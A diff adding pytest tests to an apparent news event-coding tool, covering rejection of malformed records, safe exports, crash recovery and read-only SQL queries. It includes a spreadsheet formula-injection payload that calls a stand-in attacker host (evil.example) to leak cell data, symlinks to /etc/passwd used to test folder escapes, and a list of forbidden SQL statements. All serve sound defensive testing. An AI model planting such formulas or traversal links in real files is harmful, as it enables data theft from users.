@@ -157,3 +157,333 @@ def test_time_normaliser_never_raises_and_gives_timex_shaped_values(words, dct, 
     if value is not None:
         assert value.type in {"DATE", "TIME", "DURATION", "SET"}
         assert value.value and _TIMEX_VALUE.match(value.value), value
+
+
+# -- issue 18: one record never stops a run ------------------------------------------------------
+
+GOOD = "Russia criticised the United States on Monday, saying the plan was a mistake."
+
+
+def _run(coder, tmp_path, items, name="run"):
+    from dyads.runner import code_into_store
+    from dyads.store import Store
+
+    rejects = tmp_path / f"{name}.rejects.jsonl"
+    with Store(tmp_path / f"{name}.duckdb") as store:
+        report = code_into_store(items, store, coder, rejects_path=rejects)
+        ids = [r[0] for r in store.con.execute("SELECT id FROM articles ORDER BY id").fetchall()]
+    kept = [json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()] if rejects.exists() else []
+    return report, ids, kept
+
+
+def test_deep_nesting_and_lone_surrogate_are_rejects_and_the_run_goes_on(coder, tmp_path):
+    deep = tmp_path / "d.jsonl"
+    deep.write_text("[" * 1000 + "]" * 1000 + "\n" + json.dumps({"id": "after", "text": GOOD}) + "\n")
+    arr = tmp_path / "deep.json"
+    arr.write_text("[" * 5000 + "]" * 5000)
+    sur = tmp_path / "s.jsonl"
+    sur.write_text('{"id":"s","text":"Russia criticised the United States. \\ud800"}\n', encoding="utf-8")
+    good = tmp_path / "good.txt"
+    good.write_text("date: 2013-07-22\n" + GOOD)
+    report, ids, kept = _run(coder, tmp_path, read_inputs([str(deep), str(arr), str(sur), str(good)]))
+    assert ids == ["after", "good"]
+    reasons = {(r["origin"].rsplit("/", 1)[-1], r["record"]): r["reason"] for r in kept}
+    assert reasons[("d.jsonl", "line 1")] == "malformed JSON: nested too deeply"
+    assert reasons[("deep.json", "file")] == "malformed JSON: nested too deeply"
+    assert reasons[("s.jsonl", "line 1")].startswith("invalid Unicode: lone surrogate U+D800 in text")
+    assert report.rejected == 3 and report.coded == 2
+
+
+def test_an_article_the_coder_fails_on_is_a_reject_with_a_traceback_digest(coder, tmp_path):
+    # straight to the runner, past the reader's checks: spaCy itself raises on a lone surrogate
+    bad = Article(id="bad", text="Russia criticised the United States. \ud800", origin="feed.jsonl:line 2")
+    items = [Article(id="a", text=GOOD, origin="feed.jsonl:line 1"), bad,
+             Article(id="c", text=GOOD, origin="feed.jsonl:line 3")]
+    report, ids, kept = _run(coder, tmp_path, items)
+    assert ids == ["a", "c"] and report.coded == 2 and report.rejected == 1
+    (r,) = kept
+    assert (r["origin"], r["record"]) == ("feed.jsonl", "line 2")
+    assert r["reason"].startswith("coding failed: UnicodeEncodeError") and "traceback " in r["reason"]
+    assert r["raw"].endswith("States. \\ud800")  # kept as the escape's text, so the file stays valid UTF-8
+    # ... but a failure of the input itself (the store, asked what is coded already) stops the run
+    from dyads.runner import code_safely
+
+    def feed():
+        yield Article(id="a", text=GOOD)
+        raise OSError("store gone")
+
+    with pytest.raises(OSError, match="store gone"):
+        list(code_safely(coder, feed(), lambda r: None))
+
+
+def test_links_leaving_an_input_folder_are_rejected_without_their_content(tmp_path):
+    outside = tmp_path / "secret.txt"
+    outside.write_text("date: 2013-07-22\nSECRET_TOKEN=hunter2 " + GOOD)
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "x.txt").write_text("date: 2013-07-22\nSECRET_DIR " + GOOD)
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.txt").write_text("date: 2013-07-22\n" + GOOD)
+    (folder / "e.txt").symlink_to(outside)
+    (folder / "passwd.txt").symlink_to("/etc/passwd")
+    (folder / "dir").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
+    (folder / "sub").mkdir()
+    (folder / "sub" / "inner.txt").symlink_to(folder / "a.txt")  # stays inside: read
+    items = list(read_inputs([str(folder)]))
+    assert "SECRET" not in repr(items) and "root:" not in repr(items)
+    assert [i.id for i in items if isinstance(i, Article)] == ["a", "inner"]
+    refused = {Path(r.origin).name: r for r in items if isinstance(r, Reject)}
+    assert set(refused) == {"e.txt", "passwd.txt", "dir"}
+    assert all("outside the input folder" in r.reason and r.raw == "" for r in refused.values())
+    # named on the command line, a link is the user's choice and is read
+    (art,) = read_inputs([str(folder / "e.txt")])
+    assert isinstance(art, Article) and "SECRET_TOKEN" in art.text
+
+
+def test_every_reject_keeps_a_bounded_excerpt_and_where_the_record_is(tmp_path):
+    from dyads.models import REJECT_RAW_CHARS
+
+    bad_line = b'{"id": "x", "text": "' + b"a" * 3_000_000 + b"\n"  # malformed: the string never closes
+    good_line = json.dumps({"id": "ok", "text": GOOD}).encode() + b"\n"
+    p = tmp_path / "f.jsonl"
+    p.write_bytes(good_line + bad_line + b"{oops}\r\n")
+    items = list(read_inputs([str(p)]))
+    assert [type(i).__name__ for i in items] == ["Article", "Reject", "Reject"]
+    data = p.read_bytes()
+    for r, line in zip(items[1:], (bad_line, b"{oops}"), strict=True):
+        assert len(r.raw) <= REJECT_RAW_CHARS
+        assert data[r.offset:r.offset + r.length] == line.rstrip(b"\n")
+    # the same bound on every path, whatever a reader passes in
+    assert len(Reject("f", "row 1", "why", "x" * 10**6).raw) == REJECT_RAW_CHARS
+    # a whole-file reject: the file's extent
+    empty = tmp_path / "e.txt"
+    empty.write_text("   \n")
+    (r,) = read_inputs([str(empty)])
+    assert (r.offset, r.length) == (0, 4)
+
+
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_everywhere(coder, tmp_path):
+    from click.testing import CliRunner
+    from fastapi.testclient import TestClient
+
+    from dyads.cli import main
+    from dyads.export.records import csv_cell
+    from dyads.web import create_app
+
+    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "ok", -2.5, None)] == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "ok", -2.5, None]
+    assert csv_cell("=1+1", escape_formulas=False) == "=1+1"
+    feed = tmp_path / "f.jsonl"
+    feed.write_text(json.dumps({"id": "x", "date": "2013-07-22", "text": f"{INJECTION} Russia criticised the "
+                                "United States on Monday."}) + "\n")
+    db = tmp_path / "x.duckdb"
+    run = CliRunner().invoke(main, ["code", str(feed), "--db", str(db), "-q", "--format", "csv",
+                                    "-o", str(tmp_path / "code.csv")], catch_exceptions=False)
+    assert run.exit_code == 0, run.output
+    CliRunner().invoke(main, ["code", str(feed), "--db", str(tmp_path / "y.duckdb"), "-q", "--format", "csv",
+                              "--raw-csv", "-o", str(tmp_path / "raw.csv")], catch_exceptions=False)
+    query = CliRunner().invoke(main, ["query", "--db", str(db), "--format", "csv", "SELECT text FROM articles"],
+                               catch_exceptions=False)
+    with TestClient(create_app(db, allowed_hosts=["testserver"])) as client:
+        web = client.get("/api/events.csv").text
+
+    def cells(text: str) -> list[str]:
+        import csv as csvmod
+        import io
+
+        return [c for row in csvmod.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
+
+    for name, text in (("code", (tmp_path / "code.csv").read_text()), ("web", web), ("query", query.stdout)):
+        found = cells(text)
+        assert found and all(c.startswith("'=HYPERLINK") for c in found), (name, found)
+    assert any(c.startswith("=HYPERLINK") for c in cells((tmp_path / "raw.csv").read_text()))
+
+
+def test_a_failed_export_leaves_the_previous_file_whole(tmp_path, monkeypatch):
+    from dyads import export
+    from dyads.export import export_events
+    from dyads.store import Store
+
+    db = tmp_path / "e.duckdb"
+    with Store(db):
+        pass
+
+    def boom(*args, **kwargs):
+        raise OSError("killed half-way")
+
+    for fmt, name in (("jsonl", "out.jsonl"), ("parquet", "out.parquet"), ("gdelt-events", "out.tsv")):
+        target = tmp_path / name
+        target.write_bytes(b"the previous complete export\n")
+        monkeypatch.setattr(export, "select_events", lambda store, flt: [{"id": 1}])
+        monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
+        monkeypatch.setattr(export, "_jsonl_record", boom)
+        monkeypatch.setattr(export.pq, "write_table", lambda table, path: (Path(path).write_bytes(b"PAR1"), boom()))
+        monkeypatch.setattr(export.gdelt, "event_lines", lambda ev, header: iter(["a\tb\n", boom()]))
+        with Store(db, read_only=True) as store, pytest.raises(OSError, match="half-way"):
+            export_events(store, fmt, target)
+        assert target.read_bytes() == b"the previous complete export\n"
+        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
+
+
+def test_export_csv_neutralises_formula_names(tmp_path, monkeypatch):
+    import csv as csvmod
+
+    from dyads import export
+    from dyads.export import export_events
+    from dyads.store import Store
+
+    db = tmp_path / "e.duckdb"
+    with Store(db):
+        pass
+    monkeypatch.setattr(export, "select_events", lambda store, flt: [{"id": 1, "source_name": INJECTION}])
+    monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
+    with Store(db, read_only=True) as store:
+        export_events(store, "csv", tmp_path / "safe.csv")
+        export_events(store, "csv", tmp_path / "raw.csv", escape_formulas=False)
+    safe = next(csvmod.DictReader(open(tmp_path / "safe.csv", encoding="utf-8")))
+    raw = next(csvmod.DictReader(open(tmp_path / "raw.csv", encoding="utf-8")))
+    assert safe["source_name"] == "'" + INJECTION and raw["source_name"] == INJECTION
+
+
+_KILL_AT_MERGE = """
+import os, signal, sys
+import dyads.runner as runner
+real, calls = runner.update_events, [0]
+def merge_or_die(*args, **kwargs):
+    calls[0] += 1
+    if calls[0] == int(sys.argv[1]):  # the batch is written; the process dies before merging it
+        os.kill(os.getpid(), signal.SIGKILL)
+    return real(*args, **kwargs)
+runner.update_events = merge_or_die
+from dyads.cli import main
+main(sys.argv[2:])
+"""
+
+
+def _all_tables(db: Path) -> dict[str, list[tuple]]:
+    """Every table's rows, timestamps left out (they say when, not what)."""
+    con = duckdb.connect(str(db), read_only=True)
+    try:
+        out = {}
+        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'main' "
+                                    "AND table_type = 'BASE TABLE' ORDER BY 1").fetchall():
+            cols = [c for c, t in con.execute("SELECT column_name, data_type FROM information_schema.columns "
+                                              "WHERE table_name = ? ORDER BY ordinal_position", [table]).fetchall()
+                    if not t.startswith("TIMESTAMP")]
+            out[table] = con.execute(f"SELECT {', '.join(f'{c!r}'.replace(chr(39), chr(34)) for c in cols)} "
+                                     f"FROM {table} ORDER BY ALL").fetchall()
+        return out
+    finally:
+        con.close()
+
+
+@pytest.mark.slow
+def test_kill_between_a_batch_write_and_its_merge_loses_nothing(tmp_path):
+    examples = Path(__file__).resolve().parent.parent / "examples"
+    args = ["code", str(examples), "-q", "--batch-size", "4"]
+    clean, killed = tmp_path / "clean.duckdb", tmp_path / "killed.duckdb"
+    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(clean)], check=False, timeout=600)
+    died = subprocess.run([sys.executable, "-c", _KILL_AT_MERGE, "2", *args, "--db", str(killed)], timeout=600)
+    assert died.returncode == -signal.SIGKILL
+    half = _all_tables(killed)
+    assert len(half["articles"]) == 8 and len(half["aggregated_articles"]) == 4  # written, not merged
+    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(killed)], check=False, timeout=600)
+    after, want = _all_tables(killed), _all_tables(clean)
+    assert after.keys() == want.keys() and {"merged_events", "event_mentions", "aggregated_articles"} <= want.keys()
+    for table in want:
+        assert after[table] == want[table], table
+
+
+@pytest.mark.parametrize("sql", [
+    "CALL enable_logging(storage='file', storage_path='x.log')", "PRAGMA enable_profiling", "SET threads = 1",
+    "SELECT * FROM enable_logging()", "select 1; select 2", "ATTACH 'other.duckdb'", "INSTALL httpfs",
+    "COPY articles TO 'x.csv'", "CHECKPOINT", "DELETE FROM articles",
+])
+def test_query_refuses_all_but_read_only_statements_with_a_clear_message(tmp_path, sql):
+    from click.testing import CliRunner
+
+    from dyads.cli import main
+    from dyads.store import Store
+
+    db = tmp_path / "q.duckdb"
+    with Store(db):
+        pass
+    r = CliRunner().invoke(main, ["query", "--db", str(db), sql])
+    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
+    assert r.stderr.startswith("dyads query: ") and ("not allowed" in r.stderr or "one SQL statement" in r.stderr)
+    ok = CliRunner().invoke(main, ["query", "--db", str(db), "WITH x AS (SELECT 1 AS a) SELECT a FROM x"])
+    assert ok.exit_code == 0 and "1 rows" in ok.stderr
+
+
+def test_a_named_dictionary_file_that_cannot_be_read_is_an_error_naming_it(tmp_path):
+    from click.testing import CliRunner
+
+    from dyads.actors import DictionaryError
+    from dyads.cli import main
+    from dyads.eval.petrarch import read_validation
+
+    (tmp_path / "verbs.txt").write_text("")
+    (tmp_path / "actors.txt").symlink_to(tmp_path / "gone.txt")  # a broken link
+    suite = tmp_path / "suite.xml"
+    suite.write_text("<Validation><Environment><Verbfile>verbs.txt</Verbfile><Actorfile>actors.txt</Actorfile>"
+                     "<Agentfile>agents_typo.txt</Agentfile></Environment>"
+                     '<Sentence id="1" category="X"><Text>Arnor met Gondor.</Text>'
+                     '<EventCoding noevents="true"/></Sentence></Validation>')
+    with pytest.raises(DictionaryError, match=r"<Actorfile>actors.txt</Actorfile>: dictionary file .*actors.txt "
+                                              r"cannot be read: No such file"):
+        read_validation(suite)
+    r = CliRunner().invoke(main, ["eval", "petrarch", str(suite)])
+    assert r.exit_code == 1 and "actors.txt cannot be read" in r.output and "Traceback" not in r.output
+    # a PETRARCH dictionary directory given to `dyads code --dict` with an unreadable file: named, exit 2
+    feed = tmp_path / "a.txt"
+    feed.write_text("date: 2013-07-22\n" + GOOD)
+    r = CliRunner().invoke(main, ["code", str(feed), "--db", str(tmp_path / "d.duckdb"), "--dict", str(tmp_path)])
+    assert r.exit_code == 2 and "actors.txt cannot be read" in r.stderr
+
+
+_FILE_SIZE_LIMIT = """
+import resource, signal, sys
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as on a full disk
+resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), int(sys.argv[1])))
+from dyads.cli import main
+main(sys.argv[2:])
+"""
+
+
+@pytest.mark.slow
+def test_disk_full_says_what_happened_and_a_rerun_goes_on(tmp_path):
+    examples = Path(__file__).resolve().parent.parent / "examples"
+    args = ["code", str(examples), "-q", "--batch-size", "4"]
+    full, clean = tmp_path / "full.duckdb", tmp_path / "clean.duckdb"
+    r = subprocess.run([sys.executable, "-c", _FILE_SIZE_LIMIT, str(600_000), *args, "--db", str(full)],
+                       capture_output=True, text=True, timeout=600)
+    assert r.returncode == 1, r.stderr
+    assert r.stderr.strip().splitlines()[-1] == (f"dyads code: no space left on device: {full}; nothing of the current "
+                                                 "batch was stored; rerun to go on"), r.stderr
+    assert "Traceback" not in r.stderr
+    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(full)], check=True, timeout=600)
+    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(clean)], check=True, timeout=600)
+    assert _all_tables(full) == _all_tables(clean)
+
+
+def test_an_unbalanced_csv_quote_rejects_its_row_and_loses_no_other(tmp_path):
+    rows = ["Russia criticised the United States on Monday.", '"China praised Japan for the agreement on Tuesday.',
+            "Iran met Iraq in Baghdad on Wednesday.", '"France accused Germany of delaying the talks."',
+            "Egypt hosted Israel for talks in Cairo.", "Turkey condemned Syria over the shelling.",
+            "India signed a trade deal with Brazil."]
+    p = tmp_path / "c.csv"
+    p.write_bytes(("id,date,text\r\n" + "".join(f"{i},2013-07-22,{t}\r\n" for i, t in enumerate(rows, 1))).encode())
+    items = list(read_inputs([str(p)]))
+    assert [i.id for i in items if isinstance(i, Article)] == ["1", "3", "4", "5", "6", "7"]
+    (r,) = [i for i in items if isinstance(i, Reject)]
+    assert r.record == "row 2" and r.reason.startswith("malformed CSV at lines 3-5") and "line 4" in r.reason
+    assert p.read_bytes()[r.offset:r.offset + r.length] == f"2,2013-07-22,{rows[1]}".encode()
+    # the same quote on the last row: end of data inside a quoted field
+    p.write_text('id,text\n1,"Russia met\nSyria in a ""quoted"" text"\n2,"Iran met Iraq.\n3,Egypt met Israel.\n')
+    items = list(read_inputs([str(p)]))
+    assert [(type(i).__name__, getattr(i, "id", None) or i.record) for i in items] == [
+        ("Article", "1"), ("Reject", "row 2"), ("Article", "3")]
+    assert items[0].text == 'Russia met\nSyria in a "quoted" text'
